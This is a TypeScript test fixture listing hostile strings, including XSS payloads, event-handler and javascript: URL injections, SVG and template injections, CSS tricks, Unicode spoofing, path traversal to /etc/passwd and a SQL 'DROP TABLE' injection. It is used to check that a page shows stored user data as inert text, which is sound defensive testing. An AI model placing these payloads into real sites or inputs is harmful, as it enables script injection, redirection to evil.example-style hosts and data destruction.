/**
 * Strings that users of an API can store as names, errors and payloads, and that a page must show as text: nothing of
 * them may run, and none may break the layout. Those that would run set `window.__xss` or open a dialog.
 */

/** A character by its code point, so that invisible ones are visible in this file. */
const at = (...codes: readonly number[]) => String.fromCodePoint(...codes);

const MARKUP = [
  '<script>window.__xss=1</script>',
  '"><script>window.__xss=1</script>',
  "'><script>window.__xss=1</script>",
  '</title><script>window.__xss=1</script>',
  '</script><script>window.__xss=1</script>',
  '</textarea><img src=x onerror=window.__xss=1>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '<![CDATA[<script>window.__xss=1</script>]]>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.__xss=1</script>"></object>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><input type=submit autofocus onfocus=window.__xss=1>',
  '<table><tr><td></table></div></main>',
] as const;

const HANDLERS = [
  '<img src=x onerror=window.__xss=1>',
  '<body onload=alert(1)>',
  '<details open ontoggle=window.__xss=1>',
  '<video><source onerror=window.__xss=1>',
  '<input autofocus onfocus=alert(document.domain)>',
  '<div style="animation-name:x" onanimationstart=window.__xss=1>',
  '" autofocus onfocus="window.__xss=1',
  "' onmouseover='window.__xss=1",
  '`onmouseover=window.__xss=1`',
] as const;

const URLS = [
  'javascript:window.__xss=1',
  'JaVaScRiPt:alert(1)//',
  `java${at(9)}script:window.__xss=1`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<a href="javascript:window.__xss=1">open</a>',
  '//evil.example/%2f..',
  '../../../etc/passwd',
  '?tab=logs&next=//evil.example#x',
] as const;

const SVG = [
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text y=20>open</text></a></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><foreignObject><img src=x onerror=window.__xss=1></foreignObject></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=window.__xss=1>',
] as const;

const TEMPLATES = [
  '{{constructor.constructor("window.__xss=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text looks like a template, which is the point.
  '${window.__xss=1}',
  '<%= process.env %>',
  '#{7*7}',
  '__proto__',
  'constructor',
] as const;

const STYLES = [
  '<style>*{display:none}</style>',
  '</style><style>body{background:url(//evil.example)}</style>',
  'x;position:fixed;inset:0;background:red',
  'expression(window.__xss=1)',
] as const;

const UNICODE = [
  `${at(0x202e)}gnp.exe${at(0x202c)}`,
  `${at(0x2067)}right to left${at(0x2069)} مرحبا שלום`,
  `zero${at(0x200b)}width${at(0x200d)}join${at(0xfeff)}er`,
  at(0x200b, 0x200b, 0x200b),
  `Z${at(0x0351, 0x036b, 0x0343, 0x036a, 0x0302, 0x036f).repeat(8)}algo`,
  `family ${at(0x1f468, 0x200d, 0x1f469, 0x200d, 0x1f467, 0x200d, 0x1f466)} ${at(0x1f3f4, 0xe0067, 0xe0062, 0xe0065, 0xe006e, 0xe0067, 0xe007f)}`,
  `full${at(0xff1c)}script${at(0xff1e)}width`,
] as const;

const WORDS = [
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '&lt;img src=x onerror=window.__xss=1&gt;',
  '&#60;script&#62;window.__xss=1&#60;/script&#62;',
  `-0 ' OR 1=1; DROP TABLE users; --`,
] as const;

const LONG = [
  'W'.repeat(400),
  Array.from({ length: 80 }, () => 'word').join(' '),
  `${'a/'.repeat(100)}${'_'.repeat(190)}`,
  at(0x1f9ea).repeat(100),
] as const;

/** All of them; each has at most 400 UTF-16 units. */
export const HOSTILE: readonly string[] = [
  ...MARKUP,
  ...HANDLERS,
  ...URLS,
  ...SVG,
  ...TEMPLATES,
  ...STYLES,
  ...UNICODE,
  ...WORDS,
  ...LONG,
];
